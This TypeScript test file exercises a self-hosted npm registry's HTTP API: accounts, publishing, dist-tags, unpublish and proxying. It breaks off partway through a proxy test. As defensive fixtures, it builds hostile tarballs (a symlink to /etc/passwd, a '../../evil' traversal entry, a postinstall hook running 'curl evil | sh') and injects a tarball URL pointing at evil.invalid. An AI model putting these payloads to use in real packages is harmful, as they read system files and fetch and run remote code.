// The npm format's endpoints end to end on the real kernel (createTestHost: SQLite in
// memory, the memory storage driver): publish and read back, the write API, login,
// search, audit and proxy behaviour, over HTTP. Groups are the kernel's (route plans):
// conformance.test.ts, test/npm/npm-ownership.test.ts and npm-clients.test.ts run them.
import { createHash } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { createTestHost, startUpstreamRelay, type TestHost, type UpstreamRelay } from '@registry-core/testing';
import { clientConfig, localNpmRegistry } from './client-config.js';
import { parseDistTagPath } from './npm-format.js';
import { statusOf } from './testing/assertions.js';
import { NPM_PLUGIN, npmRequest, startStaticMirror, type MirrorAnswer, type NpmAnswer, type StaticMirror } from './testing/npm-host.js';
import { publishBody } from './testing/publish-body.js';
import { packageTgz } from './testing/tarballs.js';

/** Users of every test host: alice may read, write and delete, wendy read and write, rita only read. */
type User = 'alice' | 'wendy' | 'rita';
const alice: User = 'alice';
const writer: User = 'wendy';
const reader: User = 'rita';
const ABBREVIATED = 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*';
/** The host's `limits.maxSearchResults`. */
const MAX_SEARCH = 50;

const sha512 = (b: Buffer) => createHash('sha512').update(b).digest('base64');
const sha1 = (b: Buffer) => createHash('sha1').update(b).digest('hex');

/** A published package version: its manifest and tarball. */
async function pkg(name: string, version: string, extra: Record<string, unknown> = {}) {
  const manifest = { name, version, description: `${name} does things`, keywords: ['things'], ...extra };
  return { manifest, tarball: await packageTgz(manifest) };
}

interface RegistryRequest {
  readonly method?: string;
  readonly path: string;
  readonly headers?: Record<string, string>;
  readonly body?: unknown;
  /** Sends this user's token; none: anonymous. */
  readonly user?: User;
}

/** A test host serving npm repositories, with a token for each {@link User}. */
interface NpmRegistry {
  readonly host: TestHost;
  /** The host's URL (`http://127.0.0.1:<port>`). */
  readonly url: string;
  readonly tokens: Readonly<Record<User, string>>;
  request(repo: string, request: RegistryRequest): Promise<NpmAnswer>;
  stop(): Promise<void>;
}

/**
 * The real kernel with hosted `local` and `second`, `kept` (no unpublishing), `small` (a
 * 100-byte upload limit) and any `repositories` given; self-registration on.
 */
async function registry(options: { repositories?: Record<string, Record<string, unknown>>; auth?: Record<string, unknown>; limits?: Record<string, unknown> } = {}): Promise<NpmRegistry> {
  const host = await createTestHost({
    plugins: [NPM_PLUGIN],
    repositories: {
      local: { format: 'npm', type: 'hosted' },
      second: { format: 'npm', type: 'hosted' },
      kept: { format: 'npm', type: 'hosted', allowUnpublish: false },
      small: { format: 'npm', type: 'hosted', maxUploadSize: 100 },
      ...options.repositories,
    },
    auth: { allowRegistration: true, permissions: [{ repositories: ['*'], write: [alice, writer], delete: [alice] }], ...options.auth },
    config: { limits: { maxSearchResults: MAX_SEARCH, ...options.limits } },
  });
  const [a, w, ri] = await Promise.all([host.userToken(alice), host.userToken(writer), host.userToken(reader)]);
  const tokens = { alice: a, wendy: w, rita: ri };
  return {
    host,
    url: host.url,
    tokens,
    request: (repo, { user, ...request }) => npmRequest(host, repo, { ...request, ...(user ? { token: tokens[user] } : {}) }),
    stop: () => host.stop(),
  };
}

async function publish(r: NpmRegistry, repo: string, name: string, version: string, options: { user?: User; extra?: Record<string, unknown>; tags?: Record<string, string> } = {}) {
  const { manifest, tarball } = await pkg(name, version, options.extra);
  const path = `/${name.replace('/', '%2f')}`;
  return r.request(repo, { method: 'PUT', path, user: options.user ?? alice, body: publishBody(manifest, tarball, { tags: options.tags }) });
}

describe('account endpoints', () => {
  let r: NpmRegistry;
  beforeEach(async () => {
    r = await registry();
  });
  afterEach(() => r.stop());

  it('answers ping and whoami', async () => {
    expect((await r.request('local', { path: '/-/ping' })).json).toEqual({});
    const anonymous = await r.request('local', { path: '/-/whoami' });
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers['www-authenticate']).toBe('Basic realm="registry-core/local"');
    expect((await r.request('local', { path: '/-/whoami', user: alice })).json).toEqual({ username: 'alice' });
  });

  it('answers the web login with 404, so npm falls back to the couch login', async () => {
    const web = await r.request('local', { method: 'POST', path: '/-/v1/login', body: {} });
    expect(web.status).toBe(404);
    expect(web.json.error).toMatch(/web login/);
  });

  it('registers a new user, logs an existing one in, refuses a wrong password with 401', async () => {
    const couch = (name: string, password: string) =>
      r.request('local', { method: 'PUT', path: `/-/user/org.couchdb.user:${name}`, body: { _id: `org.couchdb.user:${name}`, name, password, type: 'user', roles: [] } });
    const added = await couch('bob', 'bob-password');
    expect(added.status).toBe(201);
    expect(added.json).toMatchObject({ ok: true, id: 'org.couchdb.user:bob', token: expect.any(String) });
    const again = await couch('bob', 'bob-password');
    expect(again.status).toBe(201);
    expect(again.json.token).not.toBe(added.json.token);
    const wrong = await couch('bob', 'not-it');
    expect(wrong.status).toBe(401);
    expect(wrong.json.error).toMatch(/wrong password/);
  });

  it('refuses registration when the host disables it, and malformed logins', async () => {
    const closed = await registry({ auth: { allowRegistration: false } });
    try {
      const refused = await closed.request('local', { method: 'PUT', path: '/-/user/org.couchdb.user:eve', body: { name: 'eve', password: 'eve-password' } });
      expect(refused.status).toBe(403);
      // alice exists there: her login still works
      expect((await closed.request('local', { method: 'PUT', path: '/-/user/org.couchdb.user:alice', body: { name: 'alice', password: 'wrong' } })).status).toBe(401);
    } finally {
      await closed.stop();
    }
    expect((await r.request('local', { method: 'PUT', path: '/-/user/org.couchdb.user:eve', body: { name: 'mallory', password: 'x' } })).status).toBe(400);
    expect((await r.request('local', { method: 'PUT', path: '/-/user/org.couchdb.user:eve', body: { name: 'eve' } })).status).toBe(400);
    expect((await r.request('local', { method: 'PUT', path: '/-/user/eve', body: { name: 'eve', password: 'p' } })).status).toBe(404);
  });

  it('logs out only a token of the logged-in user', async () => {
    const login = await r.request('local', { method: 'PUT', path: '/-/user/org.couchdb.user:carol', body: { name: 'carol', password: 'carol-password' } });
    const token: string = login.json.token;
    const carol = { authorization: `Bearer ${token}` };
    expect((await r.request('local', { method: 'DELETE', path: `/-/user/token/${token}`, user: alice })).status).toBe(404);
    expect((await r.request('local', { method: 'DELETE', path: `/-/user/token/${token}` })).status).toBe(401);
    expect((await r.request('local', { path: '/-/whoami', headers: carol })).json).toEqual({ username: 'carol' });
    const out = await r.request('local', { method: 'DELETE', path: `/-/user/token/${token}`, headers: carol });
    expect(out.status).toBe(200);
    // revoked: the token no longer authenticates, and cannot be revoked twice
    expect((await r.request('local', { path: '/-/whoami', headers: carol })).status).toBe(401);
    expect((await r.request('local', { method: 'DELETE', path: `/-/user/token/${token}`, user: alice })).status).toBe(404);
  });
});

describe('hosted: publish and read back', () => {
  let r: NpmRegistry;
  afterEach(() => r.stop());
  beforeEach(async () => {
    r = await registry();
    expect((await publish(r, 'local', 'left-pad', '1.0.0')).status).toBe(201);
    expect((await publish(r, 'local', '@acme/util', '1.0.0')).status).toBe(201);
  });

  it('serves the full document with absolute tarball URLs and registry-computed digests', async () => {
    const { tarball } = await pkg('left-pad', '1.0.0');
    const answer = await r.request('local', { path: '/left-pad', headers: { accept: 'application/json' } });
    expect(answer.status).toBe(200);
    expect(answer.contentType).toMatch(/^application\/json/);
    expect(answer.headers['vary']).toMatch(/Accept/);
    expect(answer.headers['vary']).toMatch(/registry-environment/);
    expect(answer.headers['etag']).toMatch(/^"[0-9a-f]{64}"$/);
    const doc = answer.json;
    expect(doc).toMatchObject({
      _id: 'left-pad',
      name: 'left-pad',
      'dist-tags': { latest: '1.0.0' },
      description: 'left-pad does things',
      readme: 'the readme',
      maintainers: [{ name: 'alice' }],
      time: { created: expect.any(String), modified: expect.any(String), '1.0.0': expect.any(String) },
      _rev: expect.stringMatching(/^\d+-[0-9a-f]+$/),
    });
    const version = doc.versions['1.0.0'];
    expect(version.dist).toEqual({
      tarball: `${r.url}/local/left-pad/-/left-pad-1.0.0.tgz`,
      integrity: `sha512-${sha512(tarball)}`,
      shasum: sha1(tarball),
      fileCount: 2,
      unpackedSize: expect.any(Number),
    });
    expect(version).toMatchObject({ _id: 'left-pad@1.0.0', _npmUser: { name: 'alice' } });
    expect(version).not.toHaveProperty('readme');
    expect(version).not.toHaveProperty('_attachments');
    // stored relative, rewritten per request: another host name is fine
    const elsewhere = await r.request('local', { path: '/left-pad', headers: { accept: 'application/json', host: 'npm.example.test:8080' } });
    expect(elsewhere.json.versions['1.0.0'].dist.tarball).toBe('http://npm.example.test:8080/local/left-pad/-/left-pad-1.0.0.tgz');
  });

  it('keeps one rendering per variant of a package being published to, not one per revision', async () => {
    // bench/soak.mjs: every revision's renderings stayed in the derived memory until they
    // aged out, so a package published to all day filled it with answers never given again.
    const derived = async () => ((await (await r.host.fetch('/-/stats')).json()) as { derived: { entries: number } }).derived.entries;
    const read = async () => {
      for (const accept of ['application/json', ABBREVIATED]) expect((await r.request('local', { path: '/left-pad', headers: { accept } })).status).toBe(200);
    };
    await read();
    const entries = await derived();
    for (let v = 1; v <= 5; v++) {
      expect((await publish(r, 'local', 'left-pad', `1.0.${v}`)).status).toBe(201);
      await read();
    }
    expect(await derived()).toBe(entries);
    const latest = await r.request('local', { path: '/left-pad', headers: { accept: ABBREVIATED } });
    expect(latest.json['dist-tags'].latest).toBe('1.0.5');
  });

  it('serves the abbreviated document to installers', async () => {
    const answer = await r.request('local', { path: '/left-pad', headers: { accept: ABBREVIATED } });
    expect(answer.contentType).toBe('application/vnd.npm.install-v1+json');
    expect(Object.keys(answer.json).sort()).toEqual(['dist-tags', 'modified', 'name', 'versions']);
    expect(answer.json.versions['1.0.0']).not.toHaveProperty('description');
    expect(answer.json.versions['1.0.0'].dist.tarball).toBe(`${r.url}/local/left-pad/-/left-pad-1.0.0.tgz`);
    const full = await r.request('local', { path: '/left-pad', headers: { accept: 'application/json' } });
    expect(full.headers['etag']).not.toBe(answer.headers['etag']);
  });

  it.each(['/@acme%2futil', '/@acme/util', '/%40acme%2Futil', '/%40acme%2futil'])('serves a scoped name addressed as %s', async (path) => {
    const answer = await r.request('local', { path });
    expect(answer.status).toBe(200);
    expect(answer.json.name).toBe('@acme/util');
    expect(answer.json.versions['1.0.0'].dist.tarball).toBe(`${r.url}/local/@acme/util/-/util-1.0.0.tgz`);
  });

  it('serves tarballs under every URL form npm uses', async () => {
    const { tarball } = await pkg('@acme/util', '1.0.0');
    for (const path of ['/@acme/util/-/util-1.0.0.tgz', '/@acme%2futil/-/util-1.0.0.tgz', '/@acme/util/-/@acme/util-1.0.0.tgz']) {
      const answer = await r.request('local', { path });
      expect(answer.status, path).toBe(200);
      expect(answer.bytes.equals(tarball), path).toBe(true);
    }
    expect((await r.request('local', { path: '/left-pad/-/left-pad-1.0.0.tgz' })).status).toBe(200);
    expect((await r.request('local', { path: '/left-pad/-/left-pad-9.9.9.tgz' })).status).toBe(404);
    expect((await r.request('local', { path: '/left-pad/-/other-1.0.0.tgz' })).status).toBe(404);
    expect((await r.request('local', { path: '/left-pad/-/..%2f..%2fsecret.tgz' })).status).toBe(400);
  });

  it('serves one version by number, tag or range', async () => {
    await publish(r, 'local', 'left-pad', '1.1.0');
    await publish(r, 'local', 'left-pad', '2.0.0-beta.1', { tags: { beta: '2.0.0-beta.1' } });
    expect((await r.request('local', { path: '/left-pad/1.0.0' })).json.version).toBe('1.0.0');
    expect((await r.request('local', { path: '/left-pad/latest' })).json.version).toBe('1.1.0');
    expect((await r.request('local', { path: '/left-pad/beta' })).json.version).toBe('2.0.0-beta.1');
    expect((await r.request('local', { path: '/left-pad/%5E1.0.0' })).json.version).toBe('1.1.0');
    expect((await r.request('local', { path: '/left-pad/3.0.0' })).status).toBe(404);
    expect((await r.request('local', { path: '/left-pad/constructor' })).status).toBe(404);
    expect((await r.request('local', { path: '/nope' })).status).toBe(404);
  });

  it('answers 404 in npm\'s error shape for an unknown package', async () => {
    const answer = await r.request('local', { path: '/unknown-package' });
    expect(answer.status).toBe(404);
    expect(answer.json).toMatchObject({ error: expect.stringMatching(/unknown-package/) });
  });

  it('keeps a --tag publish off latest; the first publish sets latest', async () => {
    await publish(r, 'local', 'left-pad', '2.0.0', { tags: { next: '2.0.0' } });
    expect((await r.request('local', { path: '/-/package/left-pad/dist-tags' })).json).toEqual({ latest: '1.0.0', next: '2.0.0' });
    await publish(r, 'local', 'fresh', '0.1.0', { tags: { next: '0.1.0' } });
    expect((await r.request('local', { path: '/-/package/fresh/dist-tags' })).json).toEqual({ latest: '0.1.0', next: '0.1.0' });
  });

  it('indexes published packages for search', async () => {
    const found = await r.request('local', { path: '/-/v1/search?text=acme&size=5' });
    expect(found.json.objects.map((o: { package: { name: string } }) => o.package.name)).toEqual(['@acme/util']);
    expect(found.json.objects[0].package).toMatchObject({ version: '1.0.0', description: '@acme/util does things', keywords: ['things'] });
    expect(found.json.total).toBe(1);
    expect((await r.request('local', { path: '/-/v1/search?text=a&size=-1' })).status).toBe(400);
    expect((await r.request('local', { path: '/-/v1/search?text=&size=100' })).json.objects).toHaveLength(2);
    const capped = await registry({ limits: { maxSearchResults: 1 } });
    try {
      expect((await publish(capped, 'local', 'left-pad', '1.0.0')).status).toBe(201);
      expect((await publish(capped, 'local', '@acme/util', '1.0.0')).status).toBe(201);
      expect((await capped.request('local', { path: '/-/v1/search?text=&size=100' })).json.objects).toHaveLength(1);
    } finally {
      await capped.stop();
    }
  });
});

describe('hosted: publish refusals', () => {
  let r: NpmRegistry;
  let before: Awaited<ReturnType<TestHost['stored']>>;
  beforeEach(async () => {
    r = await registry();
    before = await r.host.stored();
  });
  afterEach(() => r.stop());

  const put = (body: unknown, options: { path?: string; user?: User; repo?: string } = {}) =>
    r.request(options.repo ?? 'local', { method: 'PUT', path: options.path ?? '/p', user: 'user' in options ? options.user : alice, body });

  async function expectRefused(answer: { status: number; json: { error: string } }, status: number, message: RegExp) {
    expect(answer.status, JSON.stringify(answer.json)).toBe(status);
    expect(answer.json.error).toMatch(message);
    expect(await r.host.stored(), 'nothing stored: no tarball, document or component').toEqual(before);
  }

  it('needs write permission', async () => {
    const { manifest, tarball } = await pkg('p', '1.0.0');
    expect((await put(publishBody(manifest, tarball), { user: undefined })).status).toBe(401);
    await expectRefused(await put(publishBody(manifest, tarball), { user: reader }), 403, /rita/);
  });

  it('refuses invalid versions and names', async () => {
    const { manifest, tarball } = await pkg('p', '1.0');
    await expectRefused(await put(publishBody(manifest, tarball)), 400, /not a valid semver/);
    const upper = await pkg('Upper', '1.0.0');
    await expectRefused(await put(publishBody(upper.manifest, upper.tarball), { path: '/Upper' }), 400, /lowercase/);
    const core = await pkg('http', '1.0.0');
    await expectRefused(await put(publishBody(core.manifest, core.tarball), { path: '/http' }), 400, /core module/);
    const good = await pkg('p', '1.0.0');
    await expectRefused(await put(publishBody(good.manifest, good.tarball), { path: '/q' }), 400, /does not match the URL/);
  });

  it('refuses a body that is no single-version publish', async () => {
    const { manifest, tarball } = await pkg('p', '1.0.0');
    const body = publishBody(manifest, tarball);
    await expectRefused(await put('just a string'), 400, /JSON package document/);
    await expectRefused(await put({ ...body, versions: {} }), 400, /exactly one version/);
    await expectRefused(await put({ ...body, _attachments: {} }), 400, /exactly one tarball/);
    await expectRefused(await put(publishBody(manifest, tarball, { extraAttachments: { 'p-2.0.0.tgz': { data: 'AA==' } } })), 400, /exactly one tarball/);
    await expectRefused(await put(publishBody(manifest, tarball, { attachmentName: 'p-9.9.9.tgz' })), 400, /not the tarball of p@1\.0\.0/);
    await expectRefused(await put(publishBody(manifest, tarball, { manifest: { version: '2.0.0' } })), 400, /same package and version/);
  });

  it('checks the tarball against integrity, shasum and length', async () => {
    const { manifest, tarball } = await pkg('p', '1.0.0');
    const other = (await pkg('p', '1.0.1')).tarball;
    await expectRefused(await put(publishBody(manifest, tarball, { integrity: `sha512-${sha512(other)}` })), 400, /sha512/);
    await expectRefused(await put(publishBody(manifest, tarball, { integrity: 'md5-AAAA', shasum: sha1(other) })), 400, /sha1/);
    await expectRefused(await put(publishBody(manifest, tarball, { integrity: 'nothing', shasum: 'nothing' })), 400, /no dist\.integrity or dist\.shasum/);
    await expectRefused(await put(publishBody(manifest, tarball, { length: tarball.length + 1 })), 400, /announces a length/);
    await expectRefused(await put(publishBody(manifest, tarball, { length: -1 })), 400, /non-negative integer/);
    const body = publishBody(manifest, tarball);
    (body['_attachments'] as Record<string, { data: string }>)['p-1.0.0.tgz']!.data = '!!!not base64!!!';
    await expectRefused(await put(body), 400, /not base64/);
  });

  it('answers 413 above the upload limit', async () => {
    // `small` takes 100 bytes at most
    const { manifest, tarball } = await pkg('p', '1.0.0');
    await expectRefused(await put(publishBody(manifest, tarball), { repo: 'small' }), 413, /limit/);
    await expectRefused(await put(publishBody(manifest, tarball, { length: undefined }), { repo: 'small' }), 413, /100/);
  });

  it('refuses hostile tarballs and manifest confusion, naming the problem', async () => {
    const manifest = { name: 'p', version: '1.0.0' };
    const withLink = await packageTgz(manifest, [{ name: 'package/l', type: 'symlink', linkname: '/etc/passwd' }]);
    await expectRefused(await put(publishBody(manifest, withLink)), 400, /symlink/);
    const escaping = await packageTgz(manifest, [{ name: 'package/../../evil', content: 'x' }]);
    await expectRefused(await put(publishBody(manifest, escaping)), 400, /\.\./);
    const plain = Buffer.from('not a tarball');
    await expectRefused(await put(publishBody(manifest, plain)), 400, /gzip/);
    const sneaky = await packageTgz({ ...manifest, scripts: { postinstall: 'curl evil | sh' } });
    await expectRefused(await put(publishBody(manifest, sneaky)), 400, /"scripts"/);
    const deps = await packageTgz({ ...manifest, dependencies: { evil: '*' } });
    await expectRefused(await put(publishBody(manifest, deps)), 400, /"dependencies"/);
  });

  it('never lets a version be republished, even after it was unpublished', async () => {
    expect((await publish(r, 'local', 'p', '1.0.0')).status).toBe(201);
    expect((await publish(r, 'local', 'p', '1.0.1')).status).toBe(201);
    const again = await publish(r, 'local', 'p', '1.0.0');
    expect(again.status).toBe(403);
    expect(again.json.error).toMatch(/cannot modify pre-existing version: 1\.0\.0/);
    const doc = (await r.request('local', { path: '/p' })).json;
    delete doc.versions['1.0.0'];
    expect((await r.request('local', { method: 'PUT', path: `/p/-rev/${doc._rev}`, user: alice, body: doc })).status).toBe(200);
    const reused = await publish(r, 'local', 'p', '1.0.0');
    expect(reused.status).toBe(403);
    expect(reused.json.error).toMatch(/never reused/);
  });

  it('never serves the tarball a publish that died before its document left, and its retry replaces it at once', async () => {
    const { manifest, tarball } = await pkg('p', '1.0.0');
    // What a publish leaves when it dies between the tarball and the document: the tarball
    // alone, pending, stored through the repository's own asset store (as the plugin stores it).
    const assets = r.host.registry.repositories.get('local')!.handle.assets;
    await assets.put('p/-/p-1.0.0.tgz', Buffer.from('half a publish'), { kind: 'content', contentType: 'application/octet-stream', pending: true });
    expect((await r.request('local', { path: '/p/-/p-1.0.0.tgz' })).status).toBe(404);
    expect((await r.request('local', { path: '/p' })).status).toBe(404);
    expect((await put(publishBody(manifest, tarball))).status).toBe(201);
    const served = await r.request('local', { path: '/p/-/p-1.0.0.tgz' });
    expect(served.status).toBe(200);
    expect(served.bytes.equals(tarball)).toBe(true);
  });

  it('refuses a publish over a published tarball that no version lists', async () => {
    const { manifest, tarball } = await pkg('p', '1.0.0');
    const assets = r.host.registry.repositories.get('local')!.handle.assets;
    await assets.put('p/-/p-1.0.0.tgz', Buffer.from('published bytes'), { kind: 'content', contentType: 'application/octet-stream' });
    const refused = await put(publishBody(manifest, tarball));
    expect(refused.status).toBe(403);
    expect((await r.request('local', { path: '/p' })).status).toBe(404);
  });
});

describe('hosted: dist-tags, deprecate, unpublish', () => {
  let r: NpmRegistry;
  afterEach(() => r.stop());
  beforeEach(async () => {
    r = await registry();
    for (const v of ['1.0.0', '1.1.0', '2.0.0']) expect((await publish(r, 'local', 'p', v)).status).toBe(201);
    expect((await publish(r, 'local', '@s/q', '1.0.0')).status).toBe(201);
    // alice published p and owns it; she makes wendy an owner too (`npm owner add`).
    const doc = (await r.request('local', { path: '/p' })).json;
    const added = await r.request('local', { method: 'PUT', path: `/p/-rev/${doc._rev}`, user: alice, body: { _id: 'p', _rev: doc._rev, maintainers: [...doc.maintainers, { name: writer }] } });
    expect(added.status).toBe(200);
  });

  const tags = async (path = '/-/package/p/dist-tags') => (await r.request('local', { path })).json;

  it('adds, moves and removes dist-tags', async () => {
    expect(await tags()).toEqual({ latest: '2.0.0' });
    expect((await r.request('local', { method: 'PUT', path: '/-/package/p/dist-tags/beta', user: alice, body: '1.1.0' })).status).toBe(201);
    expect(await tags()).toEqual({ latest: '2.0.0', beta: '1.1.0' });
    expect((await r.request('local', { method: 'PUT', path: '/-/package/p/dist-tags/latest', user: writer, body: '1.0.0' })).status).toBe(201);
    expect((await r.request('local', { path: '/p/latest' })).json.version).toBe('1.0.0');
    expect((await r.request('local', { method: 'DELETE', path: '/-/package/p/dist-tags/beta', user: alice })).status).toBe(201);
    expect(await tags()).toEqual({ latest: '1.0.0' });
  });

  it('handles scoped names in dist-tag paths', async () => {
    expect(await tags('/-/package/@s%2fq/dist-tags')).toEqual({ latest: '1.0.0' });
    expect(await tags('/-/package/@s/q/dist-tags')).toEqual({ latest: '1.0.0' });
    expect((await r.request('local', { method: 'PUT', path: '/-/package/@s%2fq/dist-tags/next', user: alice, body: '1.0.0' })).status).toBe(201);
    expect(await tags('/-/package/@s/q/dist-tags')).toEqual({ latest: '1.0.0', next: '1.0.0' });
  });

  it('refuses bad dist-tag changes', async () => {
    const put = (tag: string, body: unknown, user: User | 'anonymous' = alice) =>
      r.request('local', { method: 'PUT', path: `/-/package/p/dist-tags/${tag}`, user: user === 'anonymous' ? undefined : user, body });
    expect((await put('beta', '9.9.9')).status).toBe(404);
    expect((await put('beta', 'not-a-version')).status).toBe(400);
    expect((await put('beta', { version: '1.0.0' })).status).toBe(400);
    expect((await put('1.x', '1.0.0')).status).toBe(400);
    expect((await put('v2', '1.0.0')).status).toBe(400);
    expect((await put('beta', '1.0.0', reader)).status).toBe(403);
    expect((await put('beta', '1.0.0', 'anonymous')).status).toBe(401);
    expect((await r.request('local', { method: 'DELETE', path: '/-/package/p/dist-tags/latest', user: alice })).status).toBe(400);
    expect((await r.request('local', { method: 'DELETE', path: '/-/package/p/dist-tags/nope', user: alice })).status).toBe(404);
    expect((await r.request('local', { method: 'PUT', path: '/-/package/unknown/dist-tags/beta', user: alice, body: '1.0.0' })).status).toBe(404);
    expect(await tags()).toEqual({ latest: '2.0.0' });
  });

  it('deprecates and undeprecates, ignoring any other change in the document', async () => {
    const doc = (await r.request('local', { path: '/p?write=true', headers: { accept: 'application/json' } })).json;
    doc.versions['1.0.0'].deprecated = 'use 2.x';
    doc.versions['1.0.0'].dependencies = { evil: '*' };
    doc.versions['1.0.0'].dist.tarball = 'http://evil.invalid/x.tgz';
    doc.description = 'changed';
    const answer = await r.request('local', { method: 'PUT', path: `/p/-rev/${doc._rev}`, user: writer, body: doc });
    expect(answer.status).toBe(200);
    const after = (await r.request('local', { path: '/p' })).json;
    expect(after.versions['1.0.0'].deprecated).toBe('use 2.x');
    expect(after.versions['1.0.0']).not.toHaveProperty('dependencies');
    expect(after.versions['1.0.0'].dist.tarball).toBe(`${r.url}/local/p/-/p-1.0.0.tgz`);
    expect(after.description).toBe('p does things');
    expect((await r.request('local', { path: '/p', headers: { accept: ABBREVIATED } })).json.versions['1.0.0'].deprecated).toBe('use 2.x');

    after.versions['1.0.0'].deprecated = '';
    expect((await r.request('local', { method: 'PUT', path: `/p/-rev/${after._rev}`, user: writer, body: after })).status).toBe(200);
    expect((await r.request('local', { path: '/p' })).json.versions['1.0.0']).not.toHaveProperty('deprecated');
  });

  it('refuses a document update on a stale revision or naming unknown versions', async () => {
    const doc = (await r.request('local', { path: '/p' })).json;
    expect((await r.request('local', { method: 'PUT', path: `/p/-rev/0-stale`, user: alice, body: doc })).status).toBe(409);
    doc.versions['9.9.9'] = { name: 'p', version: '9.9.9' };
    expect((await r.request('local', { method: 'PUT', path: `/p/-rev/${doc._rev}`, user: alice, body: doc })).status).toBe(400);
  });

  it('unpublishes a version: document, tarball and search entry go, latest is recomputed', async () => {
    const doc = (await r.request('local', { path: '/p' })).json;
    delete doc.versions['2.0.0'];
    expect((await r.request('local', { method: 'PUT', path: `/p/-rev/${doc._rev}`, user: writer, body: doc })).status).toBe(403);
    const removed = await r.request('local', { method: 'PUT', path: `/p/-rev/${doc._rev}`, user: alice, body: doc });
    expect(removed.status).toBe(200);
    const after = (await r.request('local', { path: '/p' })).json;
    expect(Object.keys(after.versions)).toEqual(['1.0.0', '1.1.0']);
    expect(after['dist-tags']).toEqual({ latest: '1.1.0' });
    expect((await r.request('local', { path: '/p/-/p-2.0.0.tgz' })).status).toBe(404);
    // the search entry now names the newest version left
    const found = (await r.request('local', { path: '/-/v1/search?text=p' })).json.objects.find((o: { package: { name: string } }) => o.package.name === 'p');
    expect(found.package.version).toBe('1.1.0');
    // npm then deletes the tarball itself
    const tarball = await r.request('local', { method: 'DELETE', path: `/p/-/p-2.0.0.tgz/-rev/${after._rev}`, user: alice });
    expect(tarball.status).toBe(200);
    // a tarball still listed cannot be deleted on its own
    expect((await r.request('local', { method: 'DELETE', path: `/p/-/p-1.0.0.tgz/-rev/${after._rev}`, user: alice })).status).toBe(409);
  });

  it('removes the package with its last version', async () => {
    const doc = (await r.request('local', { path: '/@s%2fq' })).json;
    doc.versions = {};
    expect((await r.request('local', { method: 'PUT', path: `/@s%2fq/-rev/${doc._rev}`, user: alice, body: doc })).status).toBe(200);
    expect((await r.request('local', { path: '/@s%2fq' })).status).toBe(404);
    expect((await r.request('local', { path: '/@s/q/-/q-1.0.0.tgz' })).status).toBe(404);
    expect((await r.request('local', { path: '/-/v1/search?text=' })).json.objects.map((o: { package: { name: string } }) => o.package.name)).toEqual(['p']);
  });

  it('unpublishes a whole package', async () => {
    const doc = (await r.request('local', { path: '/p' })).json;
    expect((await r.request('local', { method: 'DELETE', path: `/p/-rev/${doc._rev}`, user: writer })).status).toBe(403);
    expect((await r.request('local', { method: 'DELETE', path: `/p/-rev/${doc._rev}`, user: alice })).status).toBe(200);
    expect((await r.request('local', { path: '/p' })).status).toBe(404);
    expect((await r.request('local', { path: '/p/-/p-1.0.0.tgz' })).status).toBe(404);
    expect((await r.request('local', { path: '/-/v1/search?text=' })).json.objects.map((o: { package: { name: string } }) => o.package.name)).toEqual(['@s/q']);
    expect((await r.request('local', { method: 'DELETE', path: `/p/-rev/${doc._rev}`, user: alice })).status).toBe(404);
  });

  it('forbids every unpublish where allowUnpublish is false, but still allows deprecation', async () => {
    expect((await publish(r, 'kept', 'k', '1.0.0')).status).toBe(201);
    expect((await publish(r, 'kept', 'k', '1.0.1')).status).toBe(201);
    const doc = (await r.request('kept', { path: '/k' })).json;
    const whole = await r.request('kept', { method: 'DELETE', path: `/k/-rev/${doc._rev}`, user: alice });
    expect(whole.status).toBe(403);
    expect(whole.json.error).toMatch(/unpublishing is disabled in kept/);
    const oneVersion = structuredClone(doc);
    delete oneVersion.versions['1.0.0'];
    expect((await r.request('kept', { method: 'PUT', path: `/k/-rev/${doc._rev}`, user: alice, body: oneVersion })).status).toBe(403);
    expect((await r.request('kept', { method: 'DELETE', path: `/k/-/k-1.0.0.tgz/-rev/${doc._rev}`, user: alice })).status).toBe(403);
    doc.versions['1.0.0'].deprecated = 'old';
    expect((await r.request('kept', { method: 'PUT', path: `/k/-rev/${doc._rev}`, user: alice, body: doc })).status).toBe(200);
    expect(Object.keys((await r.request('kept', { path: '/k' })).json.versions)).toEqual(['1.0.0', '1.0.1']);
  });

  it('points latest at an environment tag, in full and abbreviated documents', async () => {
    await r.request('local', { method: 'PUT', path: '/-/package/p/dist-tags/staging', user: alice, body: '1.1.0' });
    for (const accept of ['application/json', ABBREVIATED]) {
      const staged = await r.request('local', { path: '/p', headers: { accept, 'registry-environment': 'staging' } });
      expect(staged.json['dist-tags'].latest, accept).toBe('1.1.0');
      const plain = await r.request('local', { path: '/p', headers: { accept } });
      expect(plain.json['dist-tags'].latest, accept).toBe('2.0.0');
      expect(staged.headers['etag']).not.toBe(plain.headers['etag']);
      const unknown = await r.request('local', { path: '/p', headers: { accept, 'registry-environment': 'nope' } });
      expect(unknown.json['dist-tags'].latest).toBe('2.0.0');
      expect(unknown.headers['etag']).toBe(plain.headers['etag']);
    }
    expect((await r.request('local', { path: '/p/latest', headers: { 'registry-environment': 'staging' } })).json.version).toBe('1.1.0');
  });
});

/** The tarball file npm names for a version: the unscoped part of the name. */
const fileOf = (name: string, version: string) => `${name.split('/').pop()}-${version}.tgz`;

describe('proxy of a registry-core registry', () => {
  // The upstream is a second kernel with a hosted npm repository, behind a relay that
  // records what the proxy asks and can be stopped.
  let upstream: NpmRegistry;
  let relay: UpstreamRelay;
  let r: NpmRegistry;
  beforeEach(async () => {
    upstream = await registry({ repositories: { origin: { format: 'npm', type: 'hosted' } } });
    for (const [name, version] of [['pub', '1.0.0'], ['pub', '1.1.0'], ['@pub/scoped', '3.0.0']] as const) expect((await publish(upstream, 'origin', name, version)).status).toBe(201);
    relay = await startUpstreamRelay(upstream.url);
    r = await registry({ repositories: { proxy: { format: 'npm', type: 'proxy', upstream: `${relay.url}/origin/`, cache: { metadataTtl: 0, retries: 0 } } } });
  });
  afterEach(async () => {
    await relay.stop();
    await Promise.all([r.stop(), upstream.stop()]);
  });

  it('serves the upstream document with tarballs rewritten and digests untouched', async () => {
    const answer = await r.request('proxy', { path: '/pub', headers: { accept: 'application/json' } });
    expect(answer.status).toBe(200);
    expect(answer.headers['x-cache']).toBe('MISS');
    const version = answer.json.versions['1.0.0'];
    const upstreamVersion = (await upstream.request('origin', { path: '/pub', headers: { accept: 'application/json' } })).json.versions['1.0.0'];
    expect(upstreamVersion.dist.integrity).toMatch(/^sha512-/);
